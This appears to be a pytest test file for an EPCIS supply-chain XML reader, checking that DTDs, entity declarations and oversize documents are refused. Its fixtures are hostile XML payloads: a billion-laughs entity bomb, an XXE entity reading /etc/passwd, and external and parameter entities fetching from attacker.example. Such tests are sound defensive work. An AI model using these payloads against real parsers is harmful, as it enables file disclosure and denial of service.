"""XML intake safety: DTDs, entities and oversize documents are refused before expansion."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from medtrace.epcis.errors import DocumentTooLargeError, EpcisDocumentError, UnsafeDocumentError
from medtrace.epcis.xml_reader import read_xml
from medtrace.epcis.xml_safety import XmlLimits, check_prolog, parse_document

ROOT = (
    '<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0" '
    'creationDate="2024-01-01T00:00:00Z"><EPCISBody><EventList>{body}</EventList></EPCISBody>'
    "</epcis:EPCISDocument>"
)
EVENT = (
    "<ObjectEvent><eventTime>2024-01-01T00:00:00Z</eventTime>"
    "<eventTimeZoneOffset>+00:00</eventTimeZoneOffset><epcList><epc>{epc}</epc></epcList>"
    "<action>OBSERVE</action></ObjectEvent>"
)

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + "]>\n"
    + ROOT.format(body=EVENT.format(epc="&lol9;"))
)
XXE_FILE = (
    '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    + ROOT.format(body=EVENT.format(epc="&xxe;"))
)
XXE_NETWORK = '<!DOCTYPE foo [<!ENTITY net SYSTEM "http://attacker.example/evil">]>' + ROOT.format(
    body=EVENT.format(epc="&net;")
)
PARAMETER_ENTITY = (
    '<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>'
    + ROOT.format(body="")
)
EXTERNAL_DTD = '<!DOCTYPE EPCISDocument SYSTEM "http://attacker.example/epcis.dtd">' + ROOT.format(
    body=""
)
EMPTY_DOCTYPE = "<!DOCTYPE project>" + ROOT.format(body="")


@pytest.mark.parametrize(
    ("document", "fragment"),
    [
        # exponential entity expansion ("billion laughs")
        (BILLION_LAUGHS, "internal entity declaration(s)"),
        # external entity reading a local file
        (XXE_FILE, 'xxe -> "file:///etc/passwd"'),
        # external entity fetching a URL
        (XXE_NETWORK, 'net -> "http://attacker.example/evil"'),
        # parameter entity pulling a remote DTD
        (PARAMETER_ENTITY, "external entity declaration(s)"),
        # external DTD subset
        (EXTERNAL_DTD, "a reference to an external DTD"),
    ],
)
def test_dtds_are_refused_naming_what_was_found(document: str, fragment: str) -> None:
    with pytest.raises(UnsafeDocumentError, match="DOCTYPE refused") as caught:
        read_xml(document.encode())
    assert fragment in str(caught.value)


def test_utf16_doctype_is_refused() -> None:
    # the prolog scan decodes UTF-16 before looking for markup declarations
    data = XXE_FILE.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
    with pytest.raises(UnsafeDocumentError, match="xxe"):
        read_xml(data.encode("utf-16"))


def test_empty_doctype_is_accepted_by_default_and_can_be_refused() -> None:
    # a bare DOCTYPE declares nothing (GS1's own examples carry one)
    assert read_xml(EMPTY_DOCTYPE.encode()).events == ()
    with pytest.raises(UnsafeDocumentError, match="<!DOCTYPE project>"):
        read_xml(EMPTY_DOCTYPE.encode(), XmlLimits(allow_empty_doctype=False))


def test_allow_empty_doctype_still_refuses_declarations() -> None:
    with pytest.raises(UnsafeDocumentError):
        read_xml(XXE_FILE.encode(), XmlLimits(allow_empty_doctype=True))


def test_passwd_never_leaks_through_parse_document() -> None:
    with pytest.raises(UnsafeDocumentError):
        parse_document(XXE_FILE.encode())


class CountingReader(io.RawIOBase):
    """A binary stream of an endless EPCIS document that counts the bytes handed out."""

    def __init__(self) -> None:
        self.given = 0
        self.head = ROOT.split("{body}", maxsplit=1)[0].encode()
        self.event = EVENT.format(epc="urn:epc:id:sgtin:0614141.107346.1").encode()

    def readable(self) -> bool:
        return True

    def read(self, size: int = -1) -> bytes:
        chunk = self.head if self.given == 0 else self.event * max(1, size // len(self.event))
        self.given += len(chunk)
        return chunk


def test_size_limit_is_checked_while_streaming() -> None:
    reader = CountingReader()
    with pytest.raises(DocumentTooLargeError, match="limit of 100000 bytes"):
        read_xml(reader, XmlLimits(max_bytes=100_000, chunk_size=4096))  # type: ignore[arg-type]
    assert reader.given < 100_000 + 2 * 4096


def test_size_limit_on_bytes_and_paths(tmp_path: Path) -> None:
    data = ROOT.format(body=EVENT.format(epc="urn:epc:id:sgtin:0614141.107346.1")).encode()
    path = tmp_path / "doc.xml"
    path.write_bytes(data)
    for source in (data, path, str(path)):
        with pytest.raises(DocumentTooLargeError):
            read_xml(source, XmlLimits(max_bytes=len(data) - 1))
        assert len(read_xml(source, XmlLimits(max_bytes=len(data))).events) == 1


@pytest.mark.parametrize(
    ("head", "done"),
    [
        # declaration and comment before the root: root reached
        (b'<?xml version="1.0"?><!-- c --><root>', True),
        # unterminated comment: more bytes needed
        (b"<!-- still a comm", False),
        # partial DOCTYPE keyword at a chunk border: more bytes needed
        (b"<!DOC", False),
        # byte order mark then the root
        (b"\xef\xbb\xbf<root/>", True),
    ],
)
def test_prolog_scan_is_incremental(head: bytes, done: bool) -> None:
    assert check_prolog(head, final=False, limits=XmlLimits()) is done


@pytest.mark.parametrize(
    "data",
    [
        # not XML at all
        b"hello world",
        # JSON handed to the XML reader
        b'{"type": "EPCISDocument"}',
        # empty input
        b"",
    ],
)
def test_non_xml_is_a_document_error(data: bytes) -> None:
    with pytest.raises(EpcisDocumentError, match="not an XML document"):
        read_xml(data)


def test_missing_file_is_a_document_error(tmp_path: Path) -> None:
    with pytest.raises(EpcisDocumentError, match="cannot open"):
        read_xml(tmp_path / "absent.xml")
